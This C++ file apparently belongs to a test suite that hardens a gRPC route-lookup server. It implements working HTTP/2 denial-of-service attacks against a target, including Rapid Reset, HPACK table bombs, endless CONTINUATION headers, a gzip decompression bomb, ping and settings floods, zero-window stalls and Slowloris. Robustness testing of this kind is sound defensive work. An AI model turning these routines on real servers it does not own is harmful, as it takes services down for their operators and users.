// SPDX-License-Identifier: Apache-2.0

#include "server/testing/hostile_attacks.h"

#include <zlib.h>

#include <algorithm>
#include <memory>
#include <string>
#include <vector>

#include "absl/time/clock.h"
#include "planb/v1/route_lookup.pb.h"
#include "server/testing/raw_http2.h"

namespace planb::server {

bool Attacker::Go(uint64_t steps) {
  steps_ += steps;
  if (rate_ > 0) {
    const absl::Time now = absl::Now();
    // Steps that were late are not made up for.
    next_ = std::max(next_, now - absl::Milliseconds(100)) +
            absl::Seconds(static_cast<double>(steps) / rate_);
    while (!stopped_ && absl::Now() < next_) {
      absl::SleepFor(std::min(next_ - absl::Now(), absl::Milliseconds(50)));
    }
  }
  return !stopped_;
}

std::string Attacker::RandomBytes(size_t count) {
  std::string bytes(count, '\0');
  for (char& byte : bytes) byte = static_cast<char>(random_());
  return bytes;
}

namespace {

using http2::Frame;
using http2::Literal;
using http2::Preface;
using http2::RawConnection;

constexpr char kBatchLookup[] = "/planb.v1.RouteLookup/BatchLookup";
constexpr char kLookup[] = "/planb.v1.RouteLookup/Lookup";
constexpr char kUpdate[] = "/planb.v1.RouteTable/UpdateRoutes";

// 1. Frames and messages that are wrong.

std::string OneBatch() {
  v1::BatchLookupRequest request;
  request.set_addresses_v6(std::string(160, '\x20'));
  return request.SerializeAsString();
}

std::string ACall(uint32_t stream) {
  return http2::OpenCall(stream, kBatchLookup) +
         Frame(http2::kData, http2::kEndStream, stream,
               http2::Message(OneBatch()));
}

void RandomBytes(Attacker& attacker) {
  RawConnection connection(attacker.target());
  while (attacker.Go() && connection.Send(attacker.RandomBytes(4096))) continue;
}

void GarbageAfterPreface(Attacker& attacker) {
  RawConnection connection(attacker.target());
  connection.Send(Preface() + http2::SettingsAck());
  while (attacker.Go() && connection.Send(attacker.RandomBytes(4096))) continue;
}

// Calls with a frame of a wrong type, flags, stream, length or content.
void WrongFrames(Attacker& attacker) {
  RawConnection connection(attacker.target());
  connection.Send(Preface() + http2::SettingsAck());
  for (uint32_t stream = 1; attacker.Go(); stream += 2) {
    const auto type = static_cast<uint8_t>(attacker.Random(12));
    const auto flags = static_cast<uint8_t>(attacker.Random(256));
    const uint32_t streams[] = {
        0,          1,          stream,
        stream + 2, 0x7fffffff, static_cast<uint32_t>(attacker.Random(64))};
    const uint64_t lengths[] = {0, 1, 3, 4, 5, 6, 8, 9, 64, 16'385};
    std::string payload =
        attacker.Random(2) == 0
            ? http2::CallHeaders(kBatchLookup)
            : attacker.RandomBytes(lengths[attacker.Random(10)]);
    const size_t told =
        attacker.Random(4) == 0 ? lengths[attacker.Random(10)] : payload.size();
    const bool sent = connection.Send(
        http2::FrameHeader(told, type, flags, streams[attacker.Random(6)]) +
        payload + ACall(stream));
    if (!sent) return;
  }
}

// A valid beginning with one flipped bit.
void SpoiltBytes(Attacker& attacker) {
  std::string bytes = Preface() + http2::SettingsAck() + ACall(1);
  bytes[attacker.Random(bytes.size())] ^=
      static_cast<char>(1 << attacker.Random(8));
  RawConnection connection(attacker.target());
  connection.Send(bytes + ACall(3));
  attacker.Go();
  connection.Drop();
}

void ClosedMidFrame(Attacker& attacker) {
  const std::string bytes = Preface() + http2::SettingsAck() + ACall(1);
  RawConnection connection(attacker.target());
  connection.Send(bytes.substr(0, attacker.Random(bytes.size())));
  attacker.Go();
}

// Announces a message of 4 GiB, or of one byte more than is allowed, and sends
// as much of it as the server accepts.
void GiganticMessages(Attacker& attacker) {
  RawConnection connection(attacker.target());
  connection.Send(Preface() + http2::SettingsAck());
  const uint32_t lengths[] = {0xffffffff, 0x80000000, (16u << 20) + 1};
  for (uint32_t stream = 1; attacker.Go(); stream += 2) {
    const uint32_t length = lengths[attacker.Random(3)];
    if (!connection.Send(http2::OpenCall(stream, kBatchLookup))) return;
    connection.SendData(
        stream,
        http2::MessageHeader(false, length) + std::string(100'000, '\0'),
        absl::Milliseconds(200));
  }
}

// A frame of nearly 16 MiB; 16 KiB are allowed.
void GiganticFrames(Attacker& attacker) {
  RawConnection connection(attacker.target());
  connection.Send(Preface() + http2::SettingsAck() +
                  http2::OpenCall(1, kBatchLookup) +
                  http2::FrameHeader(0xffffff, http2::kData, 0, 1));
  const std::string zeros(1 << 16, '\0');
  while (attacker.Go() && connection.Send(zeros)) continue;
}

// 128 MiB of zeros, compressed to 128 KiB; messages of 16 MiB are allowed.
std::string MakeBomb() {
  z_stream deflating = {};
  constexpr int kGzip = 16 + MAX_WBITS;
  constexpr int kMebibytes = 128;
  deflateInit2(&deflating, Z_BEST_COMPRESSION, Z_DEFLATED, kGzip, 9,
               Z_DEFAULT_STRATEGY);
  std::string zeros(1 << 20, '\0'), bomb(1 << 20, '\0');
  deflating.next_out = reinterpret_cast<Bytef*>(bomb.data());
  deflating.avail_out = static_cast<uInt>(bomb.size());
  for (int i = 0; i < kMebibytes; ++i) {
    deflating.next_in = reinterpret_cast<Bytef*>(zeros.data());
    deflating.avail_in = static_cast<uInt>(zeros.size());
    deflate(&deflating, i == kMebibytes - 1 ? Z_FINISH : Z_NO_FLUSH);
  }
  bomb.resize(deflating.total_out);
  deflateEnd(&deflating);
  return bomb;
}

void CompressedBombs(Attacker& attacker) {
  static const std::string bomb = MakeBomb();
  RawConnection connection(attacker.target());
  connection.Send(Preface() + http2::SettingsAck());
  const char* const paths[] = {kBatchLookup, kLookup, kUpdate};
  for (uint32_t stream = 1; attacker.Go(); stream += 2) {
    if (!connection.Send(Frame(http2::kHeaders, http2::kEndHeaders, stream,
                               http2::CallHeaders(paths[stream / 2 % 3]) +
                                   http2::Literal("grpc-encoding", "gzip")))) {
      return;
    }
    connection.SendData(
        stream,
        http2::MessageHeader(true, static_cast<uint32_t>(bomb.size())) + bomb,
        absl::Milliseconds(200));
    if (!connection.Send(Frame(http2::kData, http2::kEndStream, stream, ""))) {
      return;
    }
  }
}

void MalformedMessages(Attacker& attacker) {
  RawConnection connection(attacker.target());
  connection.Send(Preface() + http2::SettingsAck());
  const char* const paths[] = {kBatchLookup,
                               kLookup,
                               kUpdate,
                               "/planb.v1.RouteTable/ReplaceRoutes",
                               "/planb.v1.RouteTable/ImportSnapshot",
                               "/grpc.health.v1.Health/Check"};
  for (uint32_t stream = 1; attacker.Go(); stream += 2) {
    std::string message = OneBatch();
    if (attacker.Random(2) == 0) {
      message = attacker.RandomBytes(attacker.Random(200));
    } else {
      message[attacker.Random(4)] = static_cast<char>(attacker.Random(256));
    }
    if (!connection.Send(http2::OpenCall(stream, paths[attacker.Random(6)]) +
                         Frame(http2::kData, http2::kEndStream, stream,
                               http2::Message(message)))) {
      return;
    }
  }
}

void WrongPaths(Attacker& attacker) {
  RawConnection connection(attacker.target());
  connection.Send(Preface() + http2::SettingsAck());
  for (uint32_t stream = 1; attacker.Go(); stream += 2) {
    const std::string paths[] = {"",
                                 "/",
                                 "*",
                                 "//",
                                 "/planb.v1.RouteLookup/",
                                 "/no.Such/Method",
                                 "/planb.v1.RouteLookup/BatchLookup/",
                                 std::string(4000, '/'),
                                 attacker.RandomBytes(20)};
    if (!connection.Send(http2::OpenCall(stream, paths[attacker.Random(9)]) +
                         Frame(http2::kData, http2::kEndStream, stream,
                               http2::Message(OneBatch())))) {
      return;
    }
  }
}

// Messages of 16 MiB that would take thirty times that when they are parsed:
// millions of empty entries, or of fields that the type does not have.
void AmplifiedMessages(Attacker& attacker) {
  static const auto* const messages = [] {
    auto* const made = new std::vector<std::string>;
    for (const char* field : {"\x12", "\x52", "\x78", "\x7a"}) {
      std::string message(size_t{16} << 20, '\0');
      for (size_t i = 0; i < message.size(); i += 2) message[i] = *field;
      made->push_back(http2::Message(message));
    }
    return made;
  }();
  const char* const paths[] = {kUpdate,
                               kLookup,
                               "/planb.v1.RouteTable/StreamUpdates",
                               "/planb.v1.RouteTable/ReplaceRoutes",
                               "/planb.v1.RouteTable/GetTable",
                               "/grpc.health.v1.Health/Check"};
  RawConnection connection(attacker.target());
  connection.Send(Preface() + http2::SettingsAck());
  for (uint32_t stream = 1; attacker.Go(); stream += 2) {
    if (!connection.Send(http2::OpenCall(stream, paths[attacker.Random(6)]))) {
      return;
    }
    // A call that is refused before leaves the rest of its message unsent.
    connection.SendData(stream, (*messages)[attacker.Random(4)]);
    if (!connection.Send(Frame(http2::kData, http2::kEndStream, stream, ""))) {
      return;
    }
  }
}

// 2. Headers in excess: their length, their number, HPACK.

constexpr size_t kFrame = 16'000;  // a frame may have 16,384

// Opens a call with an endless header block, in CONTINUATION frames of
// `payload`.
void Endless(Attacker& attacker, const std::string& first,
             const std::string& payload) {
  RawConnection connection(attacker.target());
  connection.Send(
      Preface() + http2::SettingsAck() +
      Frame(http2::kHeaders, 0, 1, http2::CallHeaders(kBatchLookup) + first));
  const std::string frame = Frame(http2::kContinuation, 0, 1, payload);
  while (attacker.Go() && connection.Send(frame)) continue;
}

// Complete header blocks of a megabyte, one after the other.
void LargeBlocks(Attacker& attacker) {
  RawConnection connection(attacker.target());
  connection.Send(Preface() + http2::SettingsAck());
  const std::string field = Literal("x-large", std::string(kFrame - 32, 'x'));
  for (uint32_t stream = 1; attacker.Go(); stream += 2) {
    std::string bytes =
        Frame(http2::kHeaders, 0, stream, http2::CallHeaders(kBatchLookup));
    for (int i = 0; i < 64; ++i) {
      bytes += Frame(http2::kContinuation, i == 63 ? http2::kEndHeaders : 0,
                     stream, field);
    }
    if (!connection.Send(bytes)) return;
  }
}

// Endless small fields.
void EndlessFields(Attacker& attacker) {
  std::string fields;
  while (fields.size() < kFrame - 16) fields += Literal("a", "b");
  Endless(attacker, "", fields);
}

// Endless frames, each of one field or empty.
void EndlessSmallFrames(Attacker& attacker) {
  const std::string small = Literal("a", "b");
  std::string frames;
  for (int i = 0; i < 500; ++i) {
    frames += Frame(http2::kContinuation, 0, 1, small) +
              Frame(http2::kContinuation, 0, 1, "");
  }
  RawConnection connection(attacker.target());
  connection.Send(
      Preface() + http2::SettingsAck() +
      Frame(http2::kHeaders, 0, 1, http2::CallHeaders(kBatchLookup)));
  while (attacker.Go(1000) && connection.Send(frames)) continue;
}

// One field with a value that claims to have 4 GiB.
void EndlessString(Attacker& attacker) {
  Endless(attacker,
          std::string("\0\1x", 3) + http2::HpackInteger(0xfffffffe, 7, 0),
          std::string(kFrame, 'x'));
}

// An integer with endless bytes of value 0.
void EndlessInteger(Attacker& attacker) {
  Endless(attacker, std::string("\0\1x\x7f", 4), std::string(kFrame, '\x80'));
}

// Three thousand small fields in each call.
void ThousandsOfFields(Attacker& attacker) {
  std::string fields = http2::CallHeaders(kBatchLookup);
  for (int i = 0; i < 3000; ++i) fields += Literal("a", "");
  RawConnection connection(attacker.target());
  connection.Send(Preface() + http2::SettingsAck());
  for (uint32_t stream = 1; attacker.Go(); stream += 2) {
    if (!connection.Send(
            Frame(http2::kHeaders, http2::kEndHeaders, stream, fields))) {
      return;
    }
  }
}

// Thousands of references of one byte to a field of 3 KiB, in each call.
void TableBombs(Attacker& attacker) {
  RawConnection connection(attacker.target());
  connection.Send(Preface() + http2::SettingsAck());
  std::string references;
  for (int i = 0; i < 12'000; ++i) references += http2::kNewestEntry;
  for (uint32_t stream = 1; attacker.Go(); stream += 2) {
    if (!connection.Send(Frame(http2::kHeaders, http2::kEndHeaders, stream,
                               http2::CallHeaders(kBatchLookup) +
                                   http2::Indexed("x", std::string(3000, 'x')) +
                                   references))) {
      return;
    }
  }
}

// Resizes HPACK's table thousands of times in each block.
void TableSizes(Attacker& attacker) {
  RawConnection connection(attacker.target());
  connection.Send(Preface() + http2::SettingsAck());
  std::string sizes;
  for (int i = 0; i < 3000; ++i) {
    sizes += http2::HpackInteger(i % 2 == 0 ? 0 : 4096, 5, 0x20);
  }
  for (uint32_t stream = 1; attacker.Go(); stream += 2) {
    if (!connection.Send(Frame(http2::kHeaders, http2::kEndHeaders, stream,
                               sizes + http2::CallHeaders(kBatchLookup)))) {
      return;
    }
  }
}

// 3. Too much of what is allowed, or too little of what is needed.

// Opens calls of `path` and resets them at once.
void ResetCalls(Attacker& attacker, const char* path, bool acknowledge) {
  constexpr uint32_t kAtOnce = 64;
  RawConnection connection(attacker.target());
  connection.Send(Preface() + (acknowledge ? http2::SettingsAck() : ""));
  for (uint32_t stream = 1; attacker.Go(kAtOnce);) {
    std::string bytes;
    for (uint32_t i = 0; i < kAtOnce; ++i, stream += 2) {
      bytes += http2::OpenCall(stream, path) + http2::RstStream(stream);
    }
    if (!connection.Send(bytes)) return;
  }
}

void RapidReset(Attacker& attacker) {
  ResetCalls(attacker, kBatchLookup, true);
}

void RapidResetOfChanges(Attacker& attacker) {
  ResetCalls(attacker, "/planb.v1.RouteTable/GetTable", false);
}

// Opens more calls than the connection may have, and leaves them open. Does not
// acknowledge the settings, so that their limit does not bind it.
void ManyStreams(Attacker& attacker) {
  constexpr uint32_t kAtOnce = 50;
  RawConnection connection(attacker.target());
  connection.Send(Preface());
  for (uint32_t stream = 1; attacker.Go(kAtOnce);) {
    std::string bytes;
    for (uint32_t i = 0; i < kAtOnce; ++i, stream += 2) {
      bytes += http2::OpenCall(stream, kBatchLookup);
    }
    if (!connection.Send(bytes)) return;
  }
}

// Sends batches with a closed window, so that no reply can be sent.
void ZeroWindow(Attacker& attacker) {
  v1::BatchLookupRequest request;
  request.set_addresses_v6(std::string(16 * 900, '\x20'));
  const std::string batch = http2::Message(request.SerializeAsString());
  RawConnection connection(attacker.target());
  connection.Send(Preface(http2::Setting(http2::kInitialWindowSize, 0)) +
                  http2::SettingsAck());
  for (uint32_t stream = 1; attacker.Go(); stream += 2) {
    if (!connection.Send(http2::OpenCall(stream, kBatchLookup))) return;
    for (int i = 0; i < 100; ++i) {
      if (connection.SendData(stream, batch, absl::Milliseconds(20))) continue;
      if (!connection.open()) return;
      break;
    }
  }
}

// Sends batches and does not read, so that replies fill the socket.
void DeafReader(Attacker& attacker) {
  v1::BatchLookupRequest request;
  request.set_addresses_v6(std::string(16 * 10, '\x20'));
  const std::string batch =
      Frame(http2::kData, 0, 1, http2::Message(request.SerializeAsString()));
  RawConnection connection(attacker.target());
  connection.SendDeaf(Preface() + http2::SettingsAck() +
                      http2::OpenCall(1, kBatchLookup));
  while (attacker.Go() && connection.SendDeaf(batch, absl::Milliseconds(500))) {
    continue;
  }
}

// Opens streams without a message, and keeps them open.
void IdleStreams(Attacker& attacker) {
  constexpr uint32_t kCalls = 600;
  const char* const paths[] = {
      "/planb.v1.RouteTable/ReplaceRoutes",
      "/planb.v1.RouteTable/ImportSnapshot",
      "/planb.v1.RouteTable/StreamUpdates",
      "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"};
  RawConnection connection(attacker.target());
  connection.Send(Preface() + http2::SettingsAck());
  for (uint32_t i = 0; i < kCalls && attacker.Go(); ++i) {
    if (!connection.Send(http2::OpenCall(2 * i + 1, paths[i % 4]))) return;
  }
  while (!attacker.stopped() && connection.Send("")) {
    absl::SleepFor(absl::Milliseconds(50));
  }
}

// Makes calls with a closed window, so that no reply can be sent.
void UntakenReplies(Attacker& attacker) {
  constexpr uint32_t kCalls = 600;
  const char* const paths[] = {
      "/planb.v1.RouteTable/GetTable", "/planb.v1.RouteTable/ListRoutes",
      "/planb.v1.RouteTable/WatchRoutes", "/grpc.health.v1.Health/Check"};
  RawConnection connection(attacker.target());
  connection.Send(Preface(http2::Setting(http2::kInitialWindowSize, 0)) +
                  http2::SettingsAck());
  for (uint32_t i = 0; i < kCalls && attacker.Go(); ++i) {
    if (!connection.Send(http2::OpenCall(2 * i + 1, paths[i % 4]) +
                         Frame(http2::kData, http2::kEndStream, 2 * i + 1,
                               http2::Message("")))) {
      return;
    }
  }
  while (!attacker.stopped() && connection.Send("")) {
    absl::SleepFor(absl::Milliseconds(50));
  }
}

// Sends `frame` repeatedly on one connection; if `deaf`, without reading.
void Repeat(Attacker& attacker, const std::string& frame, bool deaf = false) {
  constexpr int kAtOnce = 200;
  std::string frames;
  for (int i = 0; i < kAtOnce; ++i) frames += frame;
  RawConnection connection(attacker.target());
  connection.Send(Preface() + http2::SettingsAck() +
                  http2::OpenCall(1, kBatchLookup));
  while (attacker.Go(kAtOnce)) {
    const bool sent = deaf
                          ? connection.SendDeaf(frames, absl::Milliseconds(500))
                          : connection.Send(frames);
    if (!sent) return;
  }
}

void PingFlood(Attacker& attacker) {
  Repeat(attacker, Frame(http2::kPing, 0, 0, "12345678"));
}

// Does not read, so that answers pile up at the server.
void DeafPingFlood(Attacker& attacker) {
  Repeat(attacker, Frame(http2::kPing, 0, 0, "12345678"), true);
}

void SettingsFlood(Attacker& attacker) {
  Repeat(attacker, Frame(http2::kSettings, 0, 0,
                         http2::Setting(http2::kInitialWindowSize, 65'535)));
}

void DeafSettingsFlood(Attacker& attacker) {
  Repeat(attacker, Frame(http2::kSettings, 0, 0, ""), true);
}

void EmptyData(Attacker& attacker) {
  Repeat(attacker, Frame(http2::kData, 0, 1, ""));
}

void UnknownFrames(Attacker& attacker) {
  Repeat(attacker, Frame(0xfa, 0, 0, "unknown"));
}

void WindowUpdates(Attacker& attacker) {
  Repeat(attacker, Frame(http2::kWindowUpdate, 0, 0, http2::BigEndian(1, 4)));
}

// Fifty connections that send a valid beginning one byte at a time.
void Slowloris(Attacker& attacker) {
  const std::string bytes =
      Preface() + http2::SettingsAck() + http2::OpenCall(1, kBatchLookup);
  std::vector<std::unique_ptr<RawConnection>> connections;
  for (int i = 0; i < 50; ++i) {
    connections.push_back(std::make_unique<RawConnection>(attacker.target()));
  }
  for (const char byte : bytes) {
    for (const auto& connection : connections) {
      if (!attacker.Go()) return;
      connection->Send(absl::string_view(&byte, 1));
    }
    absl::SleepFor(absl::Milliseconds(100));
  }
}

void ConnectAndClose(Attacker& attacker) {
  const RawConnection connection(attacker.target());
  attacker.Go();
}

// Five hundred connections that send nothing, or only the preface.
void HalfOpen(Attacker& attacker) {
  std::vector<std::unique_ptr<RawConnection>> connections;
  for (int i = 0; i < 500 && attacker.Go(); ++i) {
    connections.push_back(std::make_unique<RawConnection>(attacker.target()));
    if (i % 2 == 0) connections.back()->Send(Preface());
  }
  absl::SleepFor(absl::Milliseconds(100));
}

}  // namespace

absl::Span<const Attack> AllAttacks() {
  static constexpr Attack kAttacks[] = {
      {"RandomBytes", "4 KiB", RandomBytes},
      {"GarbageAfterPreface", "4 KiB", GarbageAfterPreface},
      {"WrongFrames", "frame", WrongFrames},
      {"SpoiltBytes", "connection", SpoiltBytes},
      {"ClosedMidFrame", "connection", ClosedMidFrame},
      {"GiganticMessages", "call", GiganticMessages, Attack::kEdge},
      {"GiganticFrames", "64 KiB", GiganticFrames},
      {"CompressedBombs", "call", CompressedBombs},
      {"AmplifiedMessages", "call", AmplifiedMessages},
      {"MalformedMessages", "call", MalformedMessages, Attack::kEdge},
      {"WrongPaths", "call", WrongPaths, Attack::kEdge},
      {"LargeBlocks", "call", LargeBlocks, Attack::kEdge},
      {"EndlessFields", "frame", EndlessFields, Attack::kEdge},
      {"EndlessSmallFrames", "frame", EndlessSmallFrames, Attack::kEdge},
      {"EndlessString", "frame", EndlessString, Attack::kEdge},
      {"EndlessInteger", "frame", EndlessInteger, Attack::kEdge},
      {"ThousandsOfFields", "call", ThousandsOfFields, Attack::kEdge},
      {"TableBombs", "call", TableBombs},
      {"TableSizes", "call", TableSizes},
      {"RapidReset", "call", RapidReset, Attack::kEdge},
      {"RapidResetOfChanges", "call", RapidResetOfChanges, Attack::kEdge},
      {"ManyStreams", "call", ManyStreams, Attack::kEdge},
      {"ZeroWindow", "call", ZeroWindow},
      {"DeafReader", "batch", DeafReader},
      {"IdleStreams", "call", IdleStreams},
      {"UntakenReplies", "call", UntakenReplies},
      {"PingFlood", "frame", PingFlood, Attack::kEdge},
      {"DeafPingFlood", "frame", DeafPingFlood, Attack::kEdge},
      {"SettingsFlood", "frame", SettingsFlood, Attack::kEdge},
      {"DeafSettingsFlood", "frame", DeafSettingsFlood, Attack::kEdge},
      {"EmptyData", "frame", EmptyData, Attack::kEdge},
      {"UnknownFrames", "frame", UnknownFrames, Attack::kEdge},
      {"WindowUpdates", "frame", WindowUpdates, Attack::kEdge},
      {"Slowloris", "byte", Slowloris},
      {"ConnectAndClose", "connection", ConnectAndClose},
      {"HalfOpen", "connection", HalfOpen},
  };
  return kAttacks;
}

}  // namespace planb::server
